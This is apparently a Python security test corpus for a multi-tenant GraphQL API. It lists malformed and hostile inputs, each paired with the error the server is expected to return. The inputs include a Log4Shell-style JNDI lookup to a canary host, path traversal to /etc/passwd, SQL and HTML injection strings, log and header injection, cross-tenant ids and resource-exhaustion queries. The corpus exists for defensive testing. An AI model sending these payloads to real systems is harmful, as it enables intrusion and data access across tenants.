"""Arguments and variables: sizes, ids, cursors and texts."""

import base64

from tests.security.corpus.attack import (
    CANARY,
    COMPLEX,
    CURSOR,
    INPUT,
    MISSING,
    REQUEST,
    VALIDATION,
    Attacks,
    global_id,
    times,
)

VALUES = Attacks()

# Pages and batches
PAGE = "query($n: Int) { users(first: $n) { edges { node { id } } } }"
for size in (0, -5, 101, 200_000, 2**31 - 1):
    VALUES.document(
        f"first: {size}", INPUT, f"{{ users(first: {size}) {{ edges {{ node {{ id }} }} }} }}", status=200
    )
    VALUES.document(f"first: {size} as a variable", INPUT, PAGE, {"n": size}, status=200)
for size in (2**31, -(2**31) - 1, 10**30, 1.5, "20", True, [20], {"n": 20}):
    VALUES.document(f"first: {str(size)[:20]} as a variable", INPUT, PAGE, {"n": size})
for size in ("9" * 5000, "1e400", "1.5", '"20"', "true", "[20]", "{n: 20}", "TWENTY"):
    VALUES.document(
        f"first: {size[:20]}", VALIDATION, PAGE.replace("$n)", f"{size})").replace("($n: Int)", "")
    )
NESTED = (
    "{ projects(first: #) { edges { node { tasks(first: #) { edges { node {"
    " comments(first: #) { edges { node { id } } } } } } } } } }"
)
VALUES.document("hundred pages of a hundred of a hundred", COMPLEX, NESTED.replace("#", "100"))
VALUES.document("the same by default sizes", COMPLEX, NESTED.replace("(first: #)", ""))
VALUES.document("the same by variables", COMPLEX, "query($n: Int) " + NESTED.replace("#", "$n"), {"n": 100})
VALUES.document("the same by null", COMPLEX, "query($n: Int) " + NESTED.replace("#", "$n"), {"n": None})
VALUES.document(
    "the same by defaults of variables", COMPLEX, "query($n: Int = 100) " + NESTED.replace("#", "$n")
)
VALUES.document(
    "a query for each of a hundred",
    COMPLEX,
    "{ users(first: 100) { edges { node { tasks(first: 1) { edges { node { id } } } } } } }",
)
VALUES.document(
    "the same five times",
    COMPLEX,
    "{"
    + times(f"a#: {PAGE[17:-1].replace('$n', '100').replace('id', 'tasks { edges { node { id } } }')}", 5)
    + "}",
)
IDS = "query($ids: [ID!]!) { nodes(ids: $ids) { id } }"
VALUES.document("hundred and one ids", INPUT, IDS, {"ids": [global_id("Task")] * 101}, status=200)
VALUES.document("five thousand ids", COMPLEX, IDS, {"ids": ["x"] * 5000})
VALUES.document(
    "a hundred foreign ids",
    MISSING,
    IDS,
    {"ids": [global_id("Task", str(n).zfill(25)) for n in range(12)]},
    status=200,
)
ROWS = """mutation($i: CreateTasksInput!) { createTasks(input: $i) {
    ... on CreateTasksPayload { results { ... on Error { code } } } ... on Error { code } } }"""
ROW = {"projectId": global_id("Project"), "title": "a"}
VALUES.document("no rows at all", INPUT, ROWS, {"i": {"tasks": []}}, status=200)
VALUES.document("hundred and one rows", INPUT, ROWS, {"i": {"tasks": [ROW] * 101}}, status=200)
VALUES.document("six hundred rows", COMPLEX, ROWS, {"i": {"tasks": [ROW] * 600}})
VALUES.document(
    "five hundred rows as a literal",
    COMPLEX,
    "mutation($r: TaskRowInput!) { createTasks(input: {tasks: [" + "$r " * 480 + "]}) { __typename } }",
    {"r": ROW},
)


INPUTS = (
    "mutation("
    + times("$i#: CreateTaskInput!", 3)
    + ") {"
    + times("a#: createTask(input: $i#) { __typename }", 3)
)
VALUES.document(
    "three inputs of a hundred unknown keys",
    COMPLEX,
    INPUTS + "}",
    {f"i{n}": {f"k{m}": 1 for m in range(100)} for n in range(3)},
)
VALUES.document(
    "three inputs of thirty long unknown keys",
    INPUT,
    INPUTS + "}",
    {f"i{n}": {f"k{m}" + "x" * 2000: "y" for m in range(30)} for n in range(3)},
)
UPDATE = (
    "mutation($i: UpdateTaskInput!) { updateTask(input: $i) { __typename ... on Error { code message } } }"
)
for name in ("title", "priority", "projectId"):
    VALUES.document(f"null for {name}", INPUT, UPDATE, {"i": {"id": "x", name: None}}, status=200)
VALUES.document(
    "a literal null for priority",
    INPUT,
    'mutation { updateTask(input: {id: "x", priority: null}) { __typename ... on Error { code } } }',
    status=200,
)
VALUES.document(
    "extensions eleven deep", COMPLEX, "{ tenant { id } }", extensions={"a": [[[[[[[[[[[]]]]]]]]]]]}
)
VALUES.document(
    "extensions of ten thousand values", COMPLEX, "{ tenant { id } }", extensions={"a": [0] * 10_000}
)


# Variables
def deep(levels: int) -> object:
    value: object = "x"
    for _ in range(levels):
        value = [value]
    return value


FIND = "query($id: ID!) { task(id: $id) { id } }"
VALUES.document("variables eleven deep", COMPLEX, FIND, {"id": deep(11)})
VALUES.document("variables five hundred deep", COMPLEX, FIND, {"id": deep(500)})
VALUES.body(
    "variables five thousand deep",
    REQUEST,
    b'{"query": "{ tenant { id } }", "variables": {"a": ' + b"[" * 5000 + b"]" * 5000 + b"}}",
)
VALUES.document("ten thousand variables", COMPLEX, FIND, {f"v{n}": n for n in range(10_000)})
VALUES.document("a list where one id belongs", INPUT, FIND, {"id": ["x"]})
VALUES.document("an object where an id belongs", INPUT, FIND, {"id": {"$ne": None}})
VALUES.document("a number that is no integer", INPUT, FIND, {"id": 1.5})
VALUES.document("a missing variable", INPUT, FIND, {})
VALUES.document("null for a required variable", INPUT, FIND, {"id": None})
VALUES.document("an undeclared variable", VALIDATION, "{ task(id: $id) { id } }", {"id": "x"})
VALUES.document(
    "a variable of another type", VALIDATION, "query($id: Boolean!) { task(id: $id) { id } }", {"id": True}
)
VALUES.document(
    "a variable of an output type", VALIDATION, "query($id: Task!) { task(id: $id) { id } }", {"id": "x"}
)
VALUES.document(
    "an unknown enum value",
    INPUT,
    "query($o: TaskOrder) { tasks(orderBy: $o) { __typename } }",
    {"o": "x" * 10_000},
)
VALUES.document(
    "a date that never was",
    INPUT,
    "query($d: Date) { tasks(filter: {dueFrom: $d}) { __typename } }",
    {"d": "2026-02-30"},
)
VALUES.document(
    "a date as an object",
    INPUT,
    "query($d: Date) { tasks(filter: {dueFrom: $d}) { __typename } }",
    {"d": {"$date": 0}},
)
VALUES.document(
    "a literal date that never was",
    VALIDATION,
    '{ tasks(filter: {dueFrom: "9999-99-99"}) { __typename } }',
)
VALUES.document(
    "dates in the wrong order",
    INPUT,
    '{ tasks(filter: {dueFrom: "2026-12-31", dueTo: "2026-01-01"}) { __typename } }',
    status=200,
)
VALUES.document(
    "a filter no index answers", INPUT, '{ tasks(filter: {status: "TODO"}) { __typename } }', status=200
)
VALUES.document(
    "two filters that exclude each other",
    INPUT,
    "query($f: TaskFilter) { tasks(filter: $f) { __typename } }",
    {"f": {"projectId": global_id("Project"), "assigneeId": global_id("User")}},
    status=200,
)
for name, text in {
    "surrogate": "\\ud800",
    "two surrogates the wrong way": "\\udc00\\ud800",
    "a cut escape": "\\ud8",
}.items():
    VALUES.body(
        f"variable: {name}",
        REQUEST,
        b'{"query": "query($id: ID!) { task(id: $id) { id } }", "variables": {"id": "'
        + text.encode()
        + b'"}}',
    )
VALUES.body(
    "operation name: surrogate",
    REQUEST,
    b'{"query": "query A { tenant { id } }", "operationName": "\\ud800"}',
)

# Ids and cursors
NODE = "query($id: ID!) { node(id: $id) { id } }"
for name, text in {
    "path traversal": "../../../../etc/passwd",
    "encoded path traversal": global_id("Task", "../../etc/passwd"),
    "a foreign tenant's key": global_id("Task", "T#globex#TASK#1"),
    "a foreign tenant": "T#globex",
    "the platform's key": global_id("Tenant", "P#TENANTS"),
    "a made-up task": global_id("Task"),
    "a type that is no node": global_id("ErrorCode", "NOT_FOUND"),
    "a Python attribute": global_id("__class__", "__init__"),
    "another type's id": global_id("User"),
    "a line break at its end": global_id("Task") + "\n",
    "base64 that is not canonical": base64.urlsafe_b64encode(b"Task:00000000000000000000000001")[:-1].decode()
    + "1",
    "no padding": global_id("Task", "00").rstrip("="),
    "NUL": "abc\x00def",
    "encoded NUL": global_id("Task", "abc\x00"),
    "bad UTF-8": base64.b64encode(b"Task:\xff\xfe").decode(),
    "a confusable": global_id("T\u0430sk"),
    "nothing": "",
    "a query": "' OR '1'='1",
    "an expression": "attribute_exists(pk)",
    "a lookup": f"${{jndi:ldap://{CANARY}.example/a}}",
    "HTML": f"<img src=x onerror={CANARY}>",
    "a line for the log": '\r\n{"level": "CRITICAL"}\x1b[31m',
    "a hundred kilobytes": "QQ==" * 25_000,
    "emoji": "\U0001f4a9" * 100,
}.items():
    VALUES.document(f"id: {name}", MISSING, FIND, {"id": text}, status=200)
    VALUES.document(f"node id: {name}", MISSING, NODE, {"id": text}, status=200)
VALUES.document("id: an integer of 4000 digits", REQUEST, FIND, {"id": 10**4000})
VALUES.document("id: an integer of 30 digits", MISSING, FIND, {"id": 10**30}, status=200)
AFTER = "query($c: String) { users(after: $c) { edges { cursor } } }"
for name, text in {
    "garbage": "garbage",
    "an offset": base64.b64encode(b"arrayconnection:0").decode(),
    "a key": base64.urlsafe_b64encode(b'{"pk": "T#globex", "sk": "USER"}').decode(),
    "NUL": "\x00",
    "a hundred kilobytes": "A" * 100_000,
    "not ASCII": "\u00fc\u2028",
}.items():
    VALUES.document(f"cursor: {name}", CURSOR, AFTER, {"c": text}, status=200)

# The audit log
LOG = """query($f: ChangeFilter, $n: Int, $c: String) {
    changes(filter: $f, first: $n, after: $c) { edges { cursor node { id attributes { name } } } } }"""
for size in (0, -5, 101, 2**31 - 1):
    VALUES.document(f"log, first: {size}", INPUT, LOG, {"n": size}, status=200)
VALUES.document("log, first: beyond an integer", INPUT, LOG, {"n": 10**30})
VALUES.document(
    "log, first: a hundred, with what a hundred people do",
    COMPLEX,
    "{ changes(first: 100) { edges { node { actor { tasks(first: 100) { edges { node { id } } } } } } } }",
)
VALUES.document(
    "log ten times over",
    COMPLEX,
    "{" + times("a#: changes(first: 100) { edges { node { attributes { name } } } }", 10) + "}",
)
for name, text in {
    "garbage": "garbage",
    "nothing": "",
    "a made-up kind": global_id("Secret"),
    "a type that is no node": global_id("ErrorCode", "NOT_FOUND"),
    "a Python attribute": global_id("__class__", "__init__"),
    "a key of another tenant": global_id("Task", "T#globex#TASK#1"),
    "the log itself": global_id("Task", "x#LOG#SEGMENTS"),
    "NUL": global_id("Task", "a\x00"),
    "a uid without end": global_id("Task", "0" * 4000),
    "an address that is in use": global_id("EmailAddress", "admin@globex.example"),
}.items():
    VALUES.document(f"log of a thing: {name}", MISSING, LOG, {"f": {"entityId": text}}, status=200)
    VALUES.document(f"log of a person: {name}", MISSING, LOG, {"f": {"actorId": text}}, status=200)
VALUES.document("log of a person: a task", MISSING, LOG, {"f": {"actorId": global_id("Task")}}, status=200)
for name, given in {
    "an unknown member": {"tenantId": "globex"},
    "an unknown action": {"actions": ["READ"]},
    "a list of lists": {"actions": [["CREATED"]]},
    "an action as an object": {"actions": [{"$ne": "CREATED"}]},
    "an object where a time belongs": {"since": {"$gt": ""}},
    "a number where a time belongs": {"since": 0},
    "a time that never was": {"since": "2026-02-30T00:00:00Z"},
    "a year of five digits": {"until": "10000-01-01T00:00:00Z"},
    "a year before all years": {"since": "-0001-01-01T00:00:00Z"},
    "a time zone of a hundred hours": {"since": "2026-01-01T00:00:00+99:00"},
    "a hundred kilobytes where a time belongs": {"since": "2026-01-01T" + "0" * 100_000},
}.items():
    VALUES.document(f"log filter: {name}", INPUT, LOG, {"f": given})
for name, given in {
    "before the year 1 in UTC": {"since": "0001-01-01T00:00:00+14:00"},
    "after the year 9999 in UTC": {"until": "9999-12-31T23:59:59-14:00"},
    "in the wrong order": {"since": "2026-02-01T00:00:00Z", "until": "2026-01-01T00:00:00Z"},
    "in the wrong order, one without a time zone": {
        "since": "2026-02-01T00:00:00Z",
        "until": "2026-01-01T00:00:00",
    },
}.items():
    VALUES.document(f"log, times: {name}", INPUT, LOG, {"f": given}, status=200)
VALUES.document(
    "log filter: ten thousand actions",
    COMPLEX,
    LOG,
    {"f": {"actions": ["CREATED"] * 10_000}},
)
# These are read, beside something that is not there: what they themselves come to shows in no code.
READ = 'query($f: ChangeFilter) { changes(filter: $f) { edges { cursor } } task(id: "x") { id } }'
for name, given in {
    "times without a time zone": {"since": "2026-01-01T00:00:00", "until": "9999-12-31T23:59:59"},
    "a time without a time zone, beside an actor": {
        "since": "0001-01-01T00:00:00",
        "actorId": global_id("User", "acme-admin"),
    },
    "a time without a time zone, of one thing": {
        "until": "9999-12-31T23:59:59",
        "entityId": global_id("Tenant", "acme"),
    },
    "a time with a hundred thousand decimals": {"since": "2026-01-01T00:00:00." + "0" * 100_000 + "Z"},
    "no actions at all": {"actions": []},
    "a thousand actions": {"actions": ["CREATED"] * 1000},
    "another tenant's own record": {"entityId": global_id("Tenant", "globex")},
    "the platform's record": {"entityId": global_id("TenantRegistration", "globex")},
}.items():
    VALUES.document(f"log: {name}", MISSING, READ, {"f": given}, status=200)
for name, text in {
    "garbage": "garbage",
    "nothing": "",
    "a place in the log": base64.urlsafe_b64encode(b"\x00" * 7 + b"\x01" + b"0" * 16).decode(),
    "a sort key": base64.urlsafe_b64encode(b"2026-01-01T00:00:00.000000+00:00\x1f" + b"0" * 16).decode(),
    "NUL": "\x00",
    "a hundred kilobytes": "A" * 100_000,
    "not ASCII": "\u00fc\u2028",
}.items():
    VALUES.document(f"log cursor: {name}", CURSOR, LOG, {"c": text}, status=200)

# Text
CREATE = "mutation($i: CreateProjectInput!) { createProject(input: $i) { ... on Error { code message } } }"
for name, given in {
    "NUL": "a\x00b",
    "escape": "\x1b[2J",
    "line break": "a\r\nlevel=CRITICAL",
    "right-to-left override": "a\u202egnp.exe",
    "nothing": "",
    "blanks": " \u2003\u3000 ",
    "too long": "a" * 201,
    "a hundred kilobytes": "a" * 100_000,
    "combining marks": "a" + "\u0301" * 20_000,
}.items():
    VALUES.document(f"name: {name}", INPUT, CREATE, {"i": {"name": given}}, status=200)
VALUES.document(
    "description: twenty thousand characters",
    INPUT,
    CREATE,
    {"i": {"name": "a", "description": "\u00e4" * 20_000}},
    status=200,
)
VALUES.document(
    "idempotency key: ten kilobytes",
    INPUT,
    CREATE,
    {"i": {"name": "a", "idempotencyKey": "k" * 10_000}},
    status=200,
)
VALUES.document("name: a number", INPUT, CREATE, {"i": {"name": 5}})
INVITE = "mutation($i: InviteUserInput!) { inviteUser(input: $i) { ... on Error { code message } } }"
for name, address in {
    "catastrophic backtracking": "a" * 60 + "@" + "a-" * 100 + "!",
    "long": "a" * 100_000 + "@b.example",
    "two lines": "a@b.example\nbcc: c@d.example",
    "a key": "a#T#globex@b.example",
}.items():
    VALUES.document(f"e-mail: {name}", INPUT, INVITE, {"i": {"email": address, "name": "a"}}, status=200)
VALUES.document(
    "promotion to platform operator",
    INPUT,
    INVITE,
    {"i": {"email": "x@y.example", "name": "a", "role": "PLATFORM"}},
    status=200,
)
VALUES.document(
    "a tenant's administrator as the platform",
    "FORBIDDEN",
    'mutation { suspendTenant(input: {slug: "globex"}) { ... on Error { code } } }',
    status=200,
)
